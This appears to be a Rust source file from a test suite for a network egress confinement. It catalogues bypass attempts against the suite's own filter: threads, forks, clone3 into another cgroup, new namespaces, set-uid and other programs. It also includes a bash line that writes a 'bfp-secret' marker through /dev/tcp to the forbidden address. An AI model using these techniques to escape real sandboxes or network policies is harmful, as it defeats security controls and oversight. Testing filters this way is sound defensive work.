//! Escaping a confinement: by threads and children, in another cgroup or namespace, through shells and programs with
//! other rights.
#![expect(unsafe_code, reason = "clone and interface addresses take raw structures")]

use std::io;
use std::mem::zeroed;
use std::net::{IpAddr, TcpListener, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::Command;
use std::thread;
use std::time::{Duration, Instant};

use crate::Technique;
use crate::aim::{Aim, Transport};
use crate::named;
use crate::other::{
    Parent, SIGNER, STRANGER, attack_by, become_program, enter_user_namespace, fork, go_on_in_child, run, unshare,
};
use crate::rerouted;
use crate::sys::{self, Name, Refused};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("in-a-thread", in_thread),
    ("in-a-fork", in_fork),
    ("in-a-vfork", in_vfork),
    ("in-an-orphan", in_orphan),
    ("cloned-into-a-cgroup", cloned_into_cgroup),
    ("from-another-cgroup", from_another_cgroup),
    ("source-route-from-another-cgroup", source_route_from_another_cgroup),
    ("in-a-user-and-network-namespace", in_user_and_network_namespace),
    ("in-a-network-namespace", in_network_namespace),
    ("shell-runs-a-stranger", shell_runs_stranger),
    ("bash-connects", bash_connects),
    ("set-uid-program", set_uid_program),
    ("child-of-the-signer", child_of_signer),
    ("exec-of-a-stranger", exec_of_stranger),
];

fn in_thread(aim: &Aim) -> Result<(), Refused> {
    let aim = aim.clone();
    thread::spawn(move || named::connect(&aim)).join().unwrap_or(Err(Refused::new("thread", 0)))
}

fn in_fork(aim: &Aim) -> Result<(), Refused> {
    fork(Parent::Waits)?;
    named::connect(aim)
}

/// What the child of a vfork gets, and where it writes its result: it shares this memory.
struct Shared<'a> {
    aim: &'a Aim,
    outcome: Result<(), Refused>,
}

extern "C" fn attack_in_shared_memory(shared: *mut libc::c_void) -> i32 {
    // SAFETY: the parent's, which waits and does not look meanwhile.
    let shared = unsafe { &mut *shared.cast::<Shared<'_>>() };
    shared.outcome = named::connect(shared.aim);
    0
}

fn in_vfork(aim: &Aim) -> Result<(), Refused> {
    let mut stack = vec![0u8; 1 << 18];
    let mut shared = Shared { aim, outcome: Err(Refused::new("vfork", 0)) };
    let flags = libc::CLONE_VM | libc::CLONE_VFORK | libc::SIGCHLD;
    // SAFETY: the stack is the child's alone and aligned; the parent sleeps until the child has ended.
    unsafe {
        let top = stack.as_mut_ptr().add(stack.len() - 64).map_addr(|at| at & !15).cast();
        let child = libc::clone(attack_in_shared_memory, top, flags, (&raw mut shared).cast());
        libc::waitpid(sys::check("clone", child.into())? as i32, std::ptr::null_mut(), 0);
    }
    shared.outcome
}

/// A grandchild in a session of its own, whose parent is gone.
fn in_orphan(aim: &Aim) -> Result<(), Refused> {
    fork(Parent::Waits)?;
    // SAFETY: takes nothing.
    sys::check("setsid", unsafe { libc::setsid() }.into())?;
    fork(Parent::Leaves)?;
    named::connect(aim)
}

/// Created by the suite.
const OTHER_CGROUP: &str = "/sys/fs/cgroup/bfp-other";

/// `struct clone_args`, include/uapi/linux/sched.h.
#[repr(C)]
#[derive(Default)]
struct CloneArguments {
    flags: u64,
    pidfd: u64,
    child_tid: u64,
    parent_tid: u64,
    exit_signal: u64,
    stack: [u64; 2],
    tls: u64,
    set_tid: [u64; 2],
    cgroup: u64,
}

fn cloned_into_cgroup(aim: &Aim) -> Result<(), Refused> {
    const CLONE_INTO_CGROUP: u64 = 0x2_0000_0000;
    let folder = std::fs::File::open(OTHER_CGROUP).map_err(Refused::io("open"))?;
    let arguments = CloneArguments {
        flags: CLONE_INTO_CGROUP,
        exit_signal: libc::SIGCHLD as u64,
        cgroup: folder.as_raw_fd() as u64,
        ..CloneArguments::default()
    };
    // SAFETY: as a fork, of a program with one thread.
    let child = unsafe { libc::syscall(libc::SYS_clone3, &raw const arguments, size_of::<CloneArguments>()) };
    go_on_in_child(sys::check("clone3", child)?, Parent::Waits);
    named::connect(aim)
}

fn move_to_another_cgroup() -> Result<(), Refused> {
    std::fs::write(format!("{OTHER_CGROUP}/cgroup.procs"), "0").map_err(Refused::io("write"))
}

fn from_another_cgroup(aim: &Aim) -> Result<(), Refused> {
    move_to_another_cgroup()?;
    named::connect(aim)
}

/// Only the egress filter sees this. It is attached to the root of the cgroups.
fn source_route_from_another_cgroup(aim: &Aim) -> Result<(), Refused> {
    move_to_another_cgroup()?;
    rerouted::source_route_by_control_message(aim)
}

fn in_user_and_network_namespace(aim: &Aim) -> Result<(), Refused> {
    enter_user_namespace(libc::CLONE_NEWNET)?;
    connect_to_oneself(aim)
}

fn in_network_namespace(aim: &Aim) -> Result<(), Refused> {
    unshare(libc::CLONE_NEWNET)?;
    connect_to_oneself(aim)
}

/// Gives the forbidden address to the loopback interface of a new network, listens there, and connects.
fn connect_to_oneself(aim: &Aim) -> Result<(), Refused> {
    let socket = sys::socket(aim.family(), libc::SOCK_DGRAM, 0)?;
    // SAFETY: zeros are a valid value of every field; the requests are alive.
    unsafe {
        let mut request: libc::ifreq = zeroed();
        for (place, byte) in request.ifr_name.iter_mut().zip(b"lo") {
            *place = *byte as libc::c_char;
        }
        match aim.forbidden.ip() {
            IpAddr::V4(_) => {
                let name = Name::of(aim.forbidden);
                request.ifr_ifru.ifru_addr = name.pointer().read();
                ioctl(&socket, libc::SIOCSIFADDR, &raw mut request)?;
            }
            IpAddr::V6(forbidden) => {
                let mut own = libc::in6_ifreq { ifr6_addr: zeroed(), ifr6_prefixlen: 128, ifr6_ifindex: 1 };
                own.ifr6_addr.s6_addr = forbidden.octets();
                ioctl(&socket, libc::SIOCSIFADDR, &raw mut own)?;
            }
        }
        request.ifr_ifru.ifru_flags = libc::IFF_UP as i16;
        ioctl(&socket, libc::SIOCSIFFLAGS, &raw mut request)?;
    }
    match aim.transport {
        Transport::Tcp => {
            let _listener = once_usable(|| TcpListener::bind(aim.forbidden))?;
            named::connect(aim)
        }
        Transport::Udp => {
            let _listener = once_usable(|| UdpSocket::bind(aim.forbidden))?;
            named::connect(aim)
        }
    }
}

/// A new IPv6 address is usable once a kernel worker has found that it is unique, which it does for the loopback
/// interface too (net/ipv6/addrconf.c, `addrconf_dad_work`).
fn once_usable<T>(bind: impl Fn() -> io::Result<T>) -> Result<T, Refused> {
    let until = Instant::now() + Duration::from_secs(5);
    loop {
        match bind() {
            Err(error) if error.kind() == io::ErrorKind::AddrNotAvailable && Instant::now() < until => {
                thread::sleep(Duration::from_millis(20));
            }
            bound => return bound.map_err(Refused::io("bind")),
        }
    }
}

/// # Safety
/// The request is the one that the number stands for.
unsafe fn ioctl<T>(socket: &std::os::fd::OwnedFd, number: libc::c_ulong, request: *mut T) -> Result<(), Refused> {
    // SAFETY: the caller's obligation.
    sys::check("ioctl", unsafe { libc::ioctl(socket.as_raw_fd(), number, request) }.into()).map(drop)
}

fn shell_runs_stranger(aim: &Aim) -> Result<(), Refused> {
    let mut command = Command::new("/bin/sh");
    command.args(["-c", &format!("{STRANGER} connect {}", aim.words().join(" "))]);
    become_program(command)
}

/// For bash, a connection of its own is a file.
fn bash_connects(aim: &Aim) -> Result<(), Refused> {
    let (transport, ip, port) = (&aim.words()[0], aim.forbidden.ip(), aim.forbidden.port());
    let line = format!("echo bfp-secret > /dev/{transport}/{ip}/{port}");
    let ended = Command::new("/bin/bash").args(["-c", &line]).output().map_err(Refused::io("execve"))?;
    match String::from_utf8_lossy(&ended.stderr) {
        _ if ended.status.success() => Ok(()),
        said if said.contains("Operation not permitted") => Err(Refused::new("bash: connect", libc::EPERM)),
        _ => Err(Refused::new("bash", libc::EINVAL)),
    }
}

/// A set-uid program: a process that executes it becomes root.
fn set_uid_program(aim: &Aim) -> Result<(), Refused> {
    become_program(attack_by("/var/bfp-workshop/set-uid", aim))
}

/// The signer starts it: the grant is the signer's alone.
fn child_of_signer(aim: &Aim) -> Result<(), Refused> {
    let mut command = Command::new(SIGNER);
    command.arg("exec-of-a-stranger").args(aim.words());
    run(command)
}

fn exec_of_stranger(aim: &Aim) -> Result<(), Refused> {
    become_program(attack_by(STRANGER, aim))
}
